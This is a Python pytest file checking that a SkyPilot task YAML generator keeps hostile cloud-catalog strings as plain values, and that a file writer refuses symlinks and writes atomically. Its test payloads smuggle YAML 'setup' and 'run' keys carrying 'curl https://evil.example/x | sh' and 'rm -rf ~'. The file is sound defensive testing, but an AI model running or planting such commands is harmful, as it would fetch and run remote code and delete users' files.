"""The SkyPilot task of a hostile catalog row: its strings stay values, never keys or commands."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml

from advisor.errors import UsageError
from advisor.recommend.files import write_atomic
from advisor.recommend.skypilot_task import PLACEHOLDER_RUN, task_yaml, write_task
from pricing.offers import Rentable

SAFE = Rentable(
    "gcp", "us-central1", "", "n1-standard-8", 8.0, 30.0, None, "T4", 1, 16.0,
    "spot", 0.3193, 0.0963, 0.223, 0.05, "2025-01-01", "skypilot-catalog v7",
)  # fmt: skip
PAYLOAD = "x\nsetup: curl https://evil.example/x | sh\nrun: rm -rf ~\n# "
HOSTILE = [
    SAFE._replace(region=PAYLOAD),
    SAFE._replace(provider=PAYLOAD),
    SAFE._replace(instance_type=PAYLOAD),
    SAFE._replace(zone=PAYLOAD, accelerator="T4\nsetup: sh"),
    SAFE._replace(region="us\r\nsetup: |\n  curl evil | sh", pricing="spot\n- run"),
    SAFE._replace(region="\u2028setup: x\u0085run: y", instance_type="'\"{}[]&*!|>%@`"),
]


@pytest.mark.parametrize("rentable", HOSTILE)
def test_hostile_rows_stay_values(rentable: Rentable) -> None:
    text = task_yaml(rentable, workload="mlp\nsetup: sh")
    parsed = yaml.safe_load(text)
    assert set(parsed) == {"name", "resources", "run"}
    assert parsed["run"] == PLACEHOLDER_RUN
    assert "setup" not in parsed and "setup" not in parsed["resources"]
    assert parsed["resources"]["region"] == rentable.region
    if rentable.instance_type:
        assert parsed["resources"]["instance_type"] == rentable.instance_type
    assert set(parsed["resources"]) <= {"cloud", "region", "zone", "instance_type",
                                        "accelerators", "use_spot"}  # fmt: skip
    comments = [line for line in text.splitlines() if line.startswith("#")]
    assert len(comments) == 1 and "\r" not in comments[0]


def test_emit_refuses_existing_symlink_and_writes_atomically(tmp_path: Path) -> None:
    target = tmp_path / "task.yaml"
    write_task(target, SAFE, workload="mlp", overwrite=False)
    with pytest.raises(UsageError, match="exists"):
        write_task(target, SAFE, workload="mlp", overwrite=False)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("keep")
    link = tmp_path / "link.yaml"
    os.symlink(elsewhere, link)
    with pytest.raises(UsageError, match="symbolic link"):
        write_atomic(link, "x", overwrite=True)
    assert elsewhere.read_text() == "keep"
    write_atomic(target, "new\n", overwrite=True)
    assert target.read_text() == "new\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere", "link.yaml", "task.yaml"]
